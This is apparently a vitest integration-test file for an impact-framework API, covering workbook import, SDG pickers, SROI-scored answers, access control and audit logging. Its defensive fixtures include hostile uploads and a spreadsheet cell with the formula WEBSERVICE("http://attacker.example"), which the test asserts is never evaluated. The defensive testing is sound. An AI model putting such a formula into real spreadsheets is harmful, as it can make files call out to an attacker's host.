import * as XLSX from '@e965/xlsx';
import type { TImpactFramework, TMiniDyiOutcome } from '@impact/domain';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../../test/build-test-app';
import { createOrganization } from '../../../test/fixtures';
import { signInAs } from '../../../test/sign-in';
import { auditLog, impactFrameworks, stepResults } from '../../db/schema';
import { sampleWorkbook } from './sample-workbook';
import { buildWorkbook, IMPACT_HEADER, STAKEHOLDER_HEADER } from './workbook';

type Who = { headers: Record<string, string> };

describe('impact design (SPEC 3, 4, 5, 7)', () => {
  let t: TestApp;
  let admin: Awaited<ReturnType<typeof signInAs>>;
  let anna: Awaited<ReturnType<typeof signInAs>>;
  let eve: Awaited<ReturnType<typeof signInAs>>;
  let framework: TImpactFramework;
  let stepId: string;
  let submissionId: string;

  const parse = (who: Who, bytes: Buffer, fileName = 'framework.xlsx') =>
    t.app.inject({
      method: 'POST',
      url: '/api/ImpactFramework/ParseWorkbook',
      headers: who.headers,
      payload: { fileName, contentBase64: bytes.toString('base64') },
    });
  const frameworkCount = async () => (await t.database.db.select().from(impactFrameworks)).length;
  const stored = async () =>
    t.database.db
      .select()
      .from(stepResults)
      .where(and(eq(stepResults.callSubmissionId, submissionId), eq(stepResults.stepId, stepId)));

  /** An outcome of the framework under its first SDG, with its first indicator checked. */
  const pick = (index: number, over: Partial<TMiniDyiOutcome> = {}): TMiniDyiOutcome => {
    const o = framework.outcomes[index];
    const i = o?.indicators[0];
    const p = i?.proxies[0];
    const s = framework.stakeholders[0];
    if (!o || !i || !p || !s) throw new Error('sample framework too small');
    return {
      outcomeId: o.id,
      sdg: o.sdg[0] ?? null,
      outcomeName: o.name,
      stakeholderId: s.id,
      stakeholderName: s.name,
      customKey: null,
      indicators: [
        {
          indicatorId: i.id,
          indicatorName: i.name,
          indicatorTargetValue: 50,
          proxyId: p.id,
          proxyName: p.name,
          proxyValue: 1000,
        },
      ],
      ...over,
    };
  };
  const custom = (key: string): TMiniDyiOutcome => ({
    outcomeId: null,
    sdg: null,
    outcomeName: `Esito ${key}`,
    stakeholderId: framework.stakeholders[0]?.id ?? '',
    stakeholderName: 'x',
    customKey: key,
    indicators: [
      {
        indicatorId: '',
        indicatorName: 'Volontari',
        indicatorTargetValue: 10,
        proxyId: '',
        proxyName: 'Ora',
        proxyValue: 15,
      },
    ],
  });
  const put = (who: Who, body: Record<string, unknown>) =>
    t.app.inject({
      method: 'PUT',
      url: '/api/ImpactFramework/PutMiniDYI',
      headers: who.headers,
      payload: { submissionId, stepId, budget: 100_000, budgetSpent: 0, sdg: [], outcomes: [], ...body },
    });

  beforeAll(async () => {
    t = await buildTestApp();
    admin = await signInAs(t.database.db, { email: 'admin@example.org', roles: ['admin'] });
    anna = await signInAs(t.database.db, { email: 'anna@ente.example' });
    eve = await signInAs(t.database.db, { email: 'eve@example.org' });
  });
  afterAll(async () => {
    await t.close();
  });

  it('seeds the 17 SDGs with texts in it/en/fr, keywords and the official page', async () => {
    const res = await t.app.inject({ url: '/api/ImpactFramework/GetSdg', headers: anna.headers });
    expect(res.statusCode).toBe(200);
    const list = res.json();
    expect(list).toHaveLength(17);
    expect(list[7]).toMatchObject({ sdgCode: 8, url: 'https://sdgs.un.org/goals/goal8' });
    for (const sdg of list) {
      for (const lang of ['it', 'en', 'fr']) {
        expect(sdg.name[lang]).not.toBe('');
        expect(sdg.description[lang]).not.toBe('');
      }
      expect(sdg.keywords.length).toBeGreaterThan(0);
    }
  });

  it('imports the sample workbook: parse, preview, save; lists and reads it back', async () => {
    const parsed = await parse(admin, await sampleWorkbook());
    expect(parsed.statusCode, parsed.body).toBe(200);
    const body = parsed.json();
    expect(body.problems).toEqual([]);
    expect(body.stakeholders.length).toBeGreaterThan(3);
    expect(body.outcomes.length).toBeGreaterThan(5);
    const employment = body.outcomes.find((o: { name: string }) => o.name.startsWith('Inserimento lavorativo'));
    expect(employment.sdg).toEqual([8, 10]);
    expect(employment.indicators[0].proxies).toHaveLength(2);
    expect(employment.indicators[0].proxies[0]).toMatchObject({ defaultValue: 14000, sourceName: expect.any(String) });

    const added = await t.app.inject({
      method: 'PUT',
      url: '/api/ImpactFramework/AddImpactFrameworkSet',
      headers: admin.headers,
      payload: { name: 'Sociale', description: 'Esempio', stakeholders: body.stakeholders, outcomes: body.outcomes },
    });
    expect(added.statusCode, added.body).toBe(200);
    framework = added.json();
    const list = (
      await t.app.inject({ url: '/api/ImpactFramework/GetImpactFrameworkSetList', headers: admin.headers })
    ).json();
    expect(list.map((f: { id: string }) => f.id)).toContain(framework.id);
    const read = await t.app.inject({
      url: `/api/ImpactFramework/GetImpactFrameworkById?ImpactFrameworkId=${framework.id}`,
      headers: admin.headers,
    });
    expect(read.json().outcomes[0].indicators[0].proxies[0].id).toBeTruthy();
    const xls = await parse(admin, await sampleWorkbook('xls'), 'framework.xls');
    expect(xls.statusCode, xls.body).toBe(200);
    expect(xls.json().outcomes).toHaveLength(body.outcomes.length);
  });

  it('the pickers: outcomes by SDG, indicators by outcome, stakeholders by framework', async () => {
    const outcomes = (
      await t.app.inject({
        method: 'POST',
        url: '/api/Outcome/GetOutcomeType',
        headers: anna.headers,
        payload: { frameworkId: framework.id, sdgs: [4] },
      })
    ).json();
    expect(outcomes.length).toBeGreaterThan(0);
    expect(outcomes.every((o: { sdg: number[] }) => o.sdg.includes(4))).toBe(true);
    const indicators = (
      await t.app.inject({
        method: 'POST',
        url: '/api/Indicator/GetIndicatorType',
        headers: anna.headers,
        payload: { frameworkId: framework.id, outcomeIds: [outcomes[0].id] },
      })
    ).json();
    expect(indicators[0]).toMatchObject({ outcomeId: outcomes[0].id, proxies: expect.any(Array) });
    const stakeholders = await t.app.inject({
      url: `/api/ImpactFramework/GetStakeholderType?frameworkId=${framework.id}`,
      headers: anna.headers,
    });
    expect(stakeholders.json()).toHaveLength(framework.stakeholders.length);
  });

  it('framework management is for admins only (403 for an applicant)', async () => {
    for (const [method, url] of [
      ['GET', '/api/ImpactFramework/GetImpactFrameworkSetList'],
      ['GET', `/api/ImpactFramework/GetImpactFrameworkById?ImpactFrameworkId=${framework.id}`],
      ['GET', `/api/ImpactFramework/DeleteImpactFrameworkSet?id=${framework.id}`],
      ['GET', '/api/ImpactFramework/Template'],
    ] as const) {
      expect((await t.app.inject({ method, url, headers: anna.headers })).statusCode, url).toBe(403);
    }
    const add = await t.app.inject({
      method: 'PUT',
      url: '/api/ImpactFramework/AddImpactFrameworkSet',
      headers: anna.headers,
      payload: { name: 'x', description: 'x', stakeholders: [], outcomes: [] },
    });
    expect(add.statusCode).toBe(403);
    expect((await parse(anna, await sampleWorkbook())).statusCode).toBe(403);
    expect(await frameworkCount()).toBe(1);
  });

  it('hostile or broken workbooks get a clear error and nothing is stored', async () => {
    const before = await frameworkCount();
    const notWorkbook = await parse(admin, Buffer.from('MZ this is an executable, not a workbook'));
    expect(notWorkbook.statusCode).toBe(400);
    expect(notWorkbook.json().messageKey).toBe('errors.impact.notAWorkbook');
    const zipButNot = await parse(admin, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]));
    expect(zipButNot.json().messageKey).toBe('errors.impact.notAWorkbook');
    const wrongName = await parse(admin, await sampleWorkbook(), 'framework.exe');
    expect(wrongName.statusCode).toBe(400);

    const wrongSheets = await parse(admin, buildWorkbookWithSheet('Foglio1'));
    expect(wrongSheets.statusCode).toBe(400);
    expect(wrongSheets.json()).toMatchObject({ messageKey: 'errors.impact.sheetMissing' });

    const huge = Array.from({ length: 20_050 }, () => ['Lavoro', '', '8', 'Ind', '', 'Proxy', 1]);
    const tooBig = await parse(admin, await buildWorkbook([IMPACT_HEADER, ...huge], [STAKEHOLDER_HEADER, ['A', '']]));
    expect(tooBig.statusCode).toBe(400);
    expect(tooBig.json().messageKey).toBe('errors.impact.tooManyRows');
    const oversized = await parse(admin, Buffer.alloc(7 * 1024 * 1024, 0x50));
    expect([400, 413]).toContain(oversized.statusCode);

    // Wrong types, a formula, missing pieces: reported with their row, the preview holds no framework to save.
    const impact = [
      IMPACT_HEADER,
      ['Lavoro', '', '8', 'Assunti', '', 'Salario', 'mille', '', ''],
      ['Scuola', '', '4', '', '', '', '', '', ''],
      ['Salute', '', '3', 'Visite', '', '', '', '', ''],
      ['Clima', '', '99', 'CO2', '', 'Tonnellate', 5, '', ''],
    ];
    const bytes = await buildWorkbook(impact, [STAKEHOLDER_HEADER]);
    const broken = await parse(admin, bytes);
    expect(broken.statusCode).toBe(200);
    const problems = broken.json().problems as Array<{ messageKey: string; row?: number; name?: string }>;
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ messageKey: 'errors.impact.missingStakeholders' }),
        expect.objectContaining({ messageKey: 'errors.impact.invalidDefaultValue', row: 2 }),
        expect.objectContaining({ messageKey: 'errors.impact.missingIndicators', row: 3, name: 'Scuola' }),
        expect.objectContaining({ messageKey: 'errors.impact.missingProxies', row: 4, name: 'Visite' }),
        expect.objectContaining({ messageKey: 'errors.impact.invalidSdg', row: 5 }),
      ]),
    );
    const noOutcomes = (
      await parse(admin, await buildWorkbook([IMPACT_HEADER], [STAKEHOLDER_HEADER, ['A', '']]))
    ).json();
    expect(noOutcomes.problems).toEqual([expect.objectContaining({ messageKey: 'errors.impact.missingOutcomes' })]);
    const formula = (await parse(admin, workbookWithFormula())).json();
    expect(formula.problems).toEqual([]);
    expect(formula.outcomes[0].indicators[0].proxies[0].defaultValue).toBe(42);

    // The save endpoint refuses an empty framework too.
    const empty = await t.app.inject({
      method: 'PUT',
      url: '/api/ImpactFramework/AddImpactFrameworkSet',
      headers: admin.headers,
      payload: { name: 'x', description: 'x', stakeholders: [], outcomes: [] },
    });
    expect(empty.statusCode).toBe(400);
    expect(await frameworkCount()).toBe(before);
  });

  it('an impact step uses the framework; the applicant saves a valid answer scored by its SROI', async () => {
    const types = (await t.app.inject({ url: '/api/Step/GetStepTypes', headers: admin.headers })).json();
    const miniDyi = types.find((x: { name: string }) => x.name === 'miniDyi').id;
    const ct = await t.app.inject({
      method: 'POST',
      url: '/api/Call/CreateCallType',
      headers: admin.headers,
      payload: {
        name: 'Impatto',
        description: 'Impatto',
        steps: [
          {
            name: 'Impatto',
            description: '',
            content: JSON.stringify({ frameworkId: framework.id }),
            sort: 0,
            stepTypeId: miniDyi,
          },
        ],
      },
    });
    expect(ct.statusCode, ct.body).toBeLessThan(300);
    const day = 86_400_000;
    const call = await t.app.inject({
      method: 'POST',
      url: '/api/Call/CreateCall',
      headers: admin.headers,
      payload: {
        name: 'Bando impatto',
        description: '',
        openingAt: new Date(Date.now() - day).toISOString(),
        closingAt: new Date(Date.now() + 30 * day).toISOString(),
        callTypeId: ct.json().id,
      },
    });
    const full = (
      await t.app.inject({ url: `/api/Call/GetCallByIdAdmin?callId=${call.json().id}`, headers: admin.headers })
    ).json();
    stepId = full.steps[0].id;
    const org = await createOrganization(t.app, anna.headers, 'Aurora');
    const sub = await t.app.inject({
      method: 'POST',
      url: '/api/Call/UpsertCallSubmission',
      headers: { ...anna.headers, 'x-organization-id': org },
      payload: { callId: call.json().id },
    });
    submissionId = sub.json().id;

    const first = pick(0);
    const res = await put(anna, { version: 0, sdg: [first.sdg], outcomes: [first] });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.version).toBe(1);
    expect(body.score).toBeCloseTo(1.4, 2);
    expect(body.upperScore).toBeCloseTo(1.5, 5);
    expect(body.lowerScore).toBeCloseTo(0.64, 2);
    const [row] = await stored();
    expect(row?.score).toBeCloseTo(1.4, 2);
    expect(JSON.parse(row?.content ?? '{}').selectedOutcomes).toHaveLength(1);

    const read = await t.app.inject({
      url: `/api/ImpactFramework/MiniDYI?submissionId=${submissionId}&stepId=${stepId}`,
      headers: anna.headers,
    });
    expect(read.json()).toMatchObject({ version: 1, frameworkId: framework.id, estimate: { overThreshold: false } });

    // Stale version: refused, nothing changes.
    const stale = await put(anna, { version: 0, sdg: [first.sdg], outcomes: [first], budget: 1 });
    expect(stale.statusCode).toBe(409);
    // By stepResultID, as the original API did.
    const byId = await t.app.inject({
      method: 'PUT',
      url: '/api/ImpactFramework/PutMiniDYI',
      headers: anna.headers,
      payload: {
        stepResultID: row?.id,
        version: 1,
        budget: 100_000,
        budgetSpent: 10,
        sdg: [first.sdg],
        outcomes: [first],
      },
    });
    expect(byId.statusCode, byId.body).toBe(200);
    expect(byId.json().version).toBe(2);
  });

  it('refuses a fifth SDG, a fifth outcome for one SDG, a fourth custom outcome, a negative value — storing nothing', async () => {
    const [before] = await stored();
    const refused = async (body: Record<string, unknown>, key: string) => {
      const res = await put(anna, { version: before?.version, ...body });
      expect(res.statusCode, res.body).toBe(400);
      expect(JSON.stringify(res.json())).toContain(key);
      const [after] = await stored();
      expect(after?.version).toBe(before?.version);
      expect(after?.content).toBe(before?.content);
    };
    await refused({ sdg: [1, 2, 3, 4, 5] }, 'errors.impact.tooManySdgs');
    const underEight = framework.outcomes.flatMap((o, i) => (o.sdg.includes(8) ? [i] : []));
    expect(underEight.length).toBeGreaterThanOrEqual(5);
    const five = underEight.slice(0, 5).map((i) => pick(i, { sdg: 8 }));
    await refused({ sdg: [8], outcomes: five }, 'errors.impact.tooManyOutcomesPerSdg');
    await refused(
      { outcomes: ['aaaaaaaaaaa1', 'aaaaaaaaaaa2', 'aaaaaaaaaaa3', 'aaaaaaaaaaa4'].map(custom) },
      'errors.impact.tooManyCustomOutcomes',
    );
    await refused({ budget: -1 }, 'errors.impact.negativeNumber');
    const first = pick(0);
    await refused(
      { sdg: [first.sdg], outcomes: [{ ...first, indicators: [{ ...first.indicators[0], proxyValue: -3 }] }] },
      'errors.impact.negativeNumber',
    );
    // The generic step-result endpoint applies the same rules.
    const generic = await t.app.inject({
      method: 'POST',
      url: '/api/Call/UpsertCallStepResult',
      headers: anna.headers,
      payload: {
        callSubmissionId: submissionId,
        stepId,
        version: before?.version,
        content: JSON.stringify({ budget: 1, budgetSpent: 0, sdg: [1, 2, 3, 4, 5], selectedOutcomes: [] }),
      },
    });
    expect(generic.statusCode).toBe(400);
    const [after] = await stored();
    expect(after?.version).toBe(before?.version);
  });

  it('three custom outcomes are fine; another applicant gets 404', async () => {
    const [before] = await stored();
    const first = pick(0);
    const ok = await put(anna, {
      version: before?.version,
      sdg: [first.sdg],
      outcomes: [first, ...['aaaaaaaaaaa1', 'aaaaaaaaaaa2', 'aaaaaaaaaaa3'].map(custom)],
    });
    expect(ok.statusCode, ok.body).toBe(200);
    const read = await t.app.inject({
      url: `/api/ImpactFramework/MiniDYI?submissionId=${submissionId}&stepId=${stepId}`,
      headers: eve.headers,
    });
    expect(read.statusCode).toBe(404);
    const write = await put(eve, { version: ok.json().version });
    expect(write.statusCode).toBe(404);
  });

  it('keeps only what the answer’s contract reads: extra text or nesting sent along is not stored', async () => {
    const [before] = await stored();
    const first = pick(0);
    const answer = { budget: 1000, budgetSpent: 0, sdg: [first.sdg], selectedOutcomes: [first] };
    let deep: unknown = 'x';
    for (let i = 0; i < 200; i++) deep = [deep];
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/Call/UpsertCallStepResult',
      headers: anna.headers,
      payload: {
        callSubmissionId: submissionId,
        stepId,
        version: before?.version,
        content: JSON.stringify({
          ...answer,
          blob: 'A'.repeat(100_000),
          deep,
          selectedOutcomes: [{ ...first, note: 'B'.repeat(1000) }],
        }),
      },
    });
    expect(res.statusCode, res.body).toBe(200);
    const [after] = await stored();
    expect(JSON.parse(after?.content ?? '{}')).toEqual(answer);
    expect(res.json().content).toBe(after?.content);
  });

  it('closing needs a complete impact answer; a framework in use cannot be deleted', async () => {
    const inUse = await t.app.inject({
      url: `/api/ImpactFramework/DeleteImpactFrameworkSet?id=${framework.id}`,
      headers: admin.headers,
    });
    expect(inUse.statusCode).toBe(409);
    expect(inUse.json().messageKey).toBe('errors.impact.frameworkInUse');
    const submit = () =>
      t.app.inject({
        method: 'POST',
        url: '/api/Call/CloseCallSubmission',
        headers: anna.headers,
        payload: { submissionId },
      });
    const [before] = await stored();
    const emptied = await put(anna, { version: before?.version, budget: null, sdg: [], outcomes: [] });
    expect(emptied.statusCode).toBe(200);
    const close = await submit();
    expect(close.statusCode).toBe(400);
    expect(JSON.stringify(close.json())).toContain('errors.impact.budgetRequired');
    const first = pick(0);
    // An outcome whose stakeholder is not picked yet is kept as written, and Submit names it.
    const unfinished = await put(anna, {
      version: emptied.json().version,
      sdg: [first.sdg],
      outcomes: [{ ...first, stakeholderId: '' }],
    });
    expect(unfinished.statusCode, unfinished.body).toBe(200);
    const [kept] = await stored();
    expect(JSON.parse(kept?.content ?? '{}').selectedOutcomes[0].stakeholderId).toBe('');
    const refusedClose = await submit();
    expect(refusedClose.statusCode).toBe(400);
    expect(JSON.stringify(refusedClose.json())).toContain('errors.impact.stakeholderMissing');
    // More spent than the whole budget: kept in the draft as typed, named at Submit.
    const overspent = await put(anna, {
      version: unfinished.json().version,
      budget: 1_000,
      budgetSpent: 2_000,
      sdg: [first.sdg],
      outcomes: [first],
    });
    expect(overspent.statusCode, overspent.body).toBe(200);
    const refusedOverspent = await submit();
    expect(refusedOverspent.statusCode).toBe(400);
    expect(JSON.stringify(refusedOverspent.json())).toContain('errors.impact.spentOverBudget');
    await put(anna, { version: overspent.json().version, sdg: [first.sdg], outcomes: [first] });
    const closed = await submit();
    expect(closed.statusCode, closed.body).toBe(200);
    const late = await put(anna, { version: 99, sdg: [first.sdg], outcomes: [first] });
    expect(late.statusCode).toBe(409);
  });

  it('a framework no step uses can be deleted', async () => {
    const parsed = (await parse(admin, await sampleWorkbook())).json();
    const added = await t.app.inject({
      method: 'PUT',
      url: '/api/ImpactFramework/AddImpactFrameworkSet',
      headers: admin.headers,
      payload: {
        name: 'Da cancellare',
        description: 'x',
        stakeholders: parsed.stakeholders,
        outcomes: parsed.outcomes,
      },
    });
    const del = await t.app.inject({
      url: `/api/ImpactFramework/DeleteImpactFrameworkSet?id=${added.json().id}`,
      headers: admin.headers,
    });
    expect(del.statusCode).toBe(204);
    // Both writes are in the audit trail, by the admin who made them.
    const trail = await t.database.db.select().from(auditLog).where(eq(auditLog.targetId, added.json().id));
    expect(trail.map((r) => [r.action, r.actorEmail]).sort()).toEqual([
      ['framework.create', 'admin@example.org'],
      ['framework.delete', 'admin@example.org'],
    ]);
  });
});

function buildWorkbookWithSheet(name: string) {
  // A real workbook whose sheets are not the expected ones.
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet([['Outcome'], ['x']]), name);
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}

function workbookWithFormula() {
  const wb = XLSX.utils.book_new();
  const sheet = XLSX.utils.aoa_to_sheet([IMPACT_HEADER, ['Lavoro', '', '8', 'Assunti', '', 'Salario', 0, '', '']]);
  // A formula with its cached value: the value counts, the formula is never evaluated.
  sheet.G2 = { t: 'n', v: 42, f: 'WEBSERVICE("http://attacker.example")' };
  XLSX.utils.book_append_sheet(wb, sheet, 'Impact framework');
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet([STAKEHOLDER_HEADER, ['Giovani', '']]), 'Stakeholder');
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}
